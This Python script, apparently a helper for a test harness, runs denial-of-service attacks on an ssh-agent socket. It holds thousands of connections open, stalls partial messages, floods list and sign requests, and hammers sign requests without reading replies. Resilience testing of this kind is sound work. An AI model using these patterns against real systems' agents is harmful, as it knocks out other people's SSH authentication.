"""Attacks on the ssh-agent, as a program of its own: ssh_hostile.py SOCKET HOW [ARGUMENT…]. Says "ready" and goes on.

    connect N         N connections, those that are closed made anew, kept
    stall N SIZE      N connections, each with all but a byte of a message of this size
    deaf N            N connections that ask for lists and read nothing
    list N            N connections, each asking for lists as fast as it can
    sign N BLOB FLAGS the same with signatures
    hurry BLOB FLAGS  a signature is asked for, and not waited for, again and again
"""
import contextlib
import resource
import selectors
import socket
import struct
import sys
import time

LIST, SIGN = 11, 13


def string(data):
    return struct.pack('>I', len(data)) + data


def connect():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(PATH)
    return s


def ready():
    print('ready', flush=True)


def keep(n):
    kept = []
    for _ in range(n):
        with contextlib.suppress(OSError):
            kept.append(connect())
        if len(kept) > 3000:
            kept.pop(0).close()
    ready()
    while True:
        with contextlib.suppress(OSError):
            kept.append(connect())
            kept.pop(0).close()
        time.sleep(0.0005)


def stall(n, size):
    kept = []
    for _ in range(n):
        with contextlib.suppress(OSError):
            s = connect()
            kept.append(s)
            s.sendall(struct.pack('>I', size) + bytes([SIGN]) + bytes(size - 2))
    ready()
    time.sleep(3600)


def deaf(n):
    kept = []
    for _ in range(n):
        with contextlib.suppress(OSError):
            s = connect()
            s.setblocking(False)
            kept.append(s)
    for _ in range(200):
        for s in kept:
            with contextlib.suppress(OSError):
                s.send(string(bytes([LIST])) * 500)
    ready()
    time.sleep(3600)


def pump(n, message):
    """Each connection always has requests waiting."""
    with selectors.DefaultSelector() as selector:
        for _ in range(n):
            s = connect()
            s.setblocking(False)
            selector.register(s, selectors.EVENT_READ | selectors.EVENT_WRITE)
        said = False
        began = time.monotonic()
        while True:
            for key, events in selector.select():
                with contextlib.suppress(BlockingIOError):
                    if events & selectors.EVENT_WRITE:
                        key.fileobj.send(message * 20)
                with contextlib.suppress(BlockingIOError):
                    if events & selectors.EVENT_READ and not key.fileobj.recv(65536):
                        selector.unregister(key.fileobj)
            if not said and time.monotonic() - began > 1:
                said = True
                ready()


def hurry(message):
    said = False
    for i in range(10**9):
        with contextlib.suppress(OSError):
            s = connect()
            s.sendall(message)
            s.close()
        if i == 50:
            ready()


PATH, HOW, *REST = sys.argv[1:]
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
if HOW == 'connect':
    keep(int(REST[0]))
elif HOW == 'stall':
    stall(int(REST[0]), int(REST[1]))
elif HOW == 'deaf':
    deaf(int(REST[0]))
elif HOW == 'list':
    pump(int(REST[0]), string(bytes([LIST])))
else:
    if HOW == 'sign':
        REST = [int(REST[0]), *REST[1:]]
    SIGNING = string(bytes([SIGN]) + string(bytes.fromhex(REST[-2])) + string(b'data') + struct.pack('>I', int(REST[-1])))
    if HOW == 'sign':
        pump(REST[0], SIGNING)
    else:
        hurry(SIGNING)
